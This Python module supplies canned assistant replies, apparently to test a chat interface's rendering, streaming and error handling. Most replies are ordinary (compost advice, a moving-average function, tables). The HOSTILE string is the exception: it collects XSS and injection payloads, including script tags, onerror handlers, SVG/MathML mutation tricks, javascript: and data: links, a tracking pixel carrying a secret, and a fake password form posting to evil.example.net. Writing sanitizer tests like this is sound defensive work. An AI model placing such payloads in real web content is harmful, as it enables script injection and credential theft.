"""What the scripted assistant says, chosen by a word in the question: code, table, layout, limit, fail, hostile, many, long."""

# ruff: noqa: E501 (its sentences are as long as an assistant makes them)

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

SEARCH: dict[str, Any] = {
    "name": "memory_search",
    "title": "Searched its memory for",
    "arguments": {"query": "compost, balcony, worms", "limit": 5},
    "finds": "3 facts\n- Has a balcony facing south, fourth floor.\n- Tried bokashi in spring; gave up because of the smell.\n- Wants something that needs ten minutes a week.",
}
CLOCK: dict[str, Any] = {
    "name": "time_now",
    "title": "Looked at the clock",
    "arguments": {"zone": "Europe/Stockholm"},
    "finds": "2026-11-30T13:05:00+01:00",
}
BROKEN: dict[str, Any] = {
    "name": "notes_read",
    "title": "Read the note",
    "arguments": {"name": "shopping"},
    "finds": "There is no note called shopping.",
    "ends": "failed",
}

COMPOST = """You wanted something that takes **ten minutes a week** and does not smell, on a south-facing balcony. A small *worm box* fits that best; bokashi is what you gave up on in spring.

## What you need

1. Two stacked boxes, about 40 × 30 × 20 cm, the upper one with holes in its floor.
2. A handful of damp cardboard for bedding.
3. Some 250 g of *Eisenia fetida*, the red compost worm, for $20 or $25.

Keep it in the shade: above 30 °C they leave or die. The balance that matters is wet to dry, roughly one part kitchen scraps to one part cardboard by volume.

> A healthy box smells like a forest after rain. If it smells of anything else, add cardboard and feed less.

The [city's guide](https://www.example.org/compost/worms) has a drawing of the box. Shall I put a reminder in your notes for Saturday?"""

CODE = """Here is a small function that does it, and a test beside it.

```python
from collections.abc import Iterable


def moving_average(values: Iterable[float], size: int) -> list[float]:
    \"\"\"The mean of each window of `size` values.\"\"\"
    window: list[float] = []
    means = []
    for value in values:
        window = [*window, value][-size:]
        if len(window) == size:
            means.append(sum(window) / size)  # one mean a full window
    return means


assert moving_average([1, 2, 3, 4], 2) == [1.5, 2.5, 3.5]
```

It keeps only `size` values at a time. For long series, use `collections.deque(maxlen=size)` instead of slicing."""

TABLE = """Three ways to do it, side by side:

| Way | Space | Minutes a week | Cost | Smell |
|:----|------:|------:|------:|:------|
| Worm box | 0.1 m² | 10 | $45 | Forest floor |
| Bokashi bucket | 0.1 m² | 15 | $60 | Vinegar |
| Tumbler | 0.5 m² | 25 | $120 | None, if turned |
| The city's bin | none | 5 | $0 | Not yours |

The worm box wins for a balcony. It costs $5 or $7 a year in cardboard, if that."""

LAYOUT = """| Who | Pays |
|:-:|--:|
| Mara | 1,204.00 |
| Jonas | 3.50 |

3. The third of a list
4. The fourth

- [x] Bought the boxes
- [ ] Ordered the worms"""

HOSTILE = """Raw HTML stays text: <script>window.hacked = 1</script> and <img src=x onerror="window.hacked = 2">.

<iframe srcdoc="<script>parent.hacked = 3</script>"></iframe>

<svg><style><img title="</style><img src onerror=window.hacked=4>"></style></svg>

<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=5></style></mglyph></table></mtext></math>

A [link](javascript:window.hacked=6), a [data link](data:text/html,<script>window.hacked=7</script>), a [vb link](vbscript:msgbox(1)), a [tabbed one](java\tscript:window.hacked=8).

![a picture](https://tracker.example.net/pixel.png?secret=42)

[a reference][ref] and ![another][ref] and <https://ok.example.com/page>

[ref]: javascript:window.hacked=9 "onclick=window.hacked=10"

| a | b |
|---|---|
| <b onmouseover="window.hacked=11">x</b> | ![](https://tracker.example.net/b.gif) |

```html
<script>window.hacked = 12</script>
```

<form action="https://evil.example.net"><input name="password"><button>Sign in</button></form>

<a href="https://fine.example.org" style="position:fixed;inset:0">cover</a> <style>body{display:none}</style> <base href="https://evil.example.net/">"""


MANY = "\n\n".join(f"Part {n}: naïve 👩‍🚀 café, 🎉 and on." for n in range(40))


@dataclass
class Script:
    """One answer: how long to think, which tools to use, what to say, how it ends."""

    text: str
    tools: list[dict[str, Any]] = field(default_factory=list)
    think_s: float = 0.4
    error: dict[str, Any] | None = None

    def pieces(self) -> Iterator[str]:
        """The text word by word, with the space that follows."""
        yield from re.findall(r"\S+\s*|\s+", self.text)


LIMIT = {
    "code": "quota_exhausted",
    "message": "This month's quota is used up.",
    "details": {"reason": "quota_charge_month", "resets_at": 1796079600000},
}
FAILED = {
    "code": "unavailable",
    "message": "The model provider did not answer, three times in a row.",
    "details": {},
}


def script_for(question: str) -> Script:
    """The answer for a question, by the first of the known words in it."""
    asked = question.lower()
    if "hostile" in asked:
        return Script(HOSTILE)
    if "code" in asked:
        return Script(CODE)
    if "layout" in asked:
        return Script(LAYOUT, think_s=0.0)
    if "table" in asked:
        return Script(TABLE)
    if "limit" in asked:
        return Script("", error=LIMIT)
    if "fail" in asked:
        return Script("I began to look into it, and", tools=[CLOCK, BROKEN], error=FAILED)
    if "long" in asked:
        return Script(
            "\n\n".join(f"Paragraph {n}. {COMPOST.splitlines()[0]}" for n in range(60)),
            think_s=0.05,
        )
    if "many" in asked:
        return Script(MANY, think_s=0.0)
    if "emoji" in asked:
        return Script("Naïve café 👩‍🚀👨‍👩‍👧 — ✓ done 🎉 and on.", think_s=0.0)
    return Script(COMPOST, tools=[SEARCH])


def title_of(text: str) -> str:
    """A title from the first question, as an assistant would make one."""
    return text.splitlines()[0][:48].rstrip(" .?,:") or "New conversation"
